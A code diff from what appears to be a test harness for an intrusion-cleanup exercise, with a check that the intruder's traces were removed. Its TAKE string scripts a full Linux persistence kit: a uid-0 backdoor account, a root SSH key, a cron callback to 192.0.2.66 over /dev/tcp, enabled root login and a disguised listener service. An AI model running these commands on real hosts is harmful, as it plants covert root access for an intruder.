@@ -21,14 +21,14 @@ ISOLATE = [{"alerts": ["SSH_Incoming_BF_Success"], "minSeverity": "High", "step"
 TAKE = r"""
 useradd --non-unique --uid 0 --gid 0 --create-home mallory
 echo 'mallory:owned' | chpasswd
-mkdir -p /root/.ssh && echo "$KEY" >>/root/.ssh/authorized_keys
+mkdir -p ~root/.ssh && echo "$KEY" >>~root/.ssh/authorized_keys
 echo '* * * * * root bash -c "echo home >/dev/tcp/192.0.2.66/443"' >/etc/cron.d/updates
 sed -i 's/^#PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config
 printf '[Service]\nExecStart=/usr/bin/python3 -c "import socket as s; a=s.create_server((\\"\\",4444)); [a.accept() for _ in iter(int,1)]"\n[Install]\nWantedBy=multi-user.target\n' >/etc/systemd/system/updates.service
 systemctl daemon-reload; systemctl enable --now updates.service; systemctl restart ssh
 sync
 """
-LEFT = ["/etc/passwd", "/etc/shadow", "/root/.ssh/authorized_keys", "/etc/cron.d/updates", "/etc/ssh/sshd_config",
+LEFT = ["/etc/passwd", "/etc/shadow", ".ssh/authorized_keys", "/etc/cron.d/updates", "/etc/ssh/sshd_config",
         "/etc/systemd/system/updates.service"]
 
 
@@ -114,7 +114,7 @@ def revert(stage, server, guest, told):
 
 def clean(stage, guest, told, intruder):
     """What the intruder left is gone, and what let him in."""
-    gone = guest.by_key("office", "getent passwd mallory; ls /etc/cron.d/updates /etc/systemd/system/updates.service /home/mallory")
+    gone = guest.by_key("office", "getent passwd mallory; ls /etc/cron.d/updates /etc/systemd/system/updates.service ~mallory")
     told.claim("account, word home and service are gone", gone.stdout == "" and gone.returncode != 0, gone.stdout)
     told.claim("his key opens nothing", guest.by_key("office", "id", intruder, "root").returncode != 0)
     told.claim("the weak password opens nothing", guest.by_password("office", "id").returncode != 0)
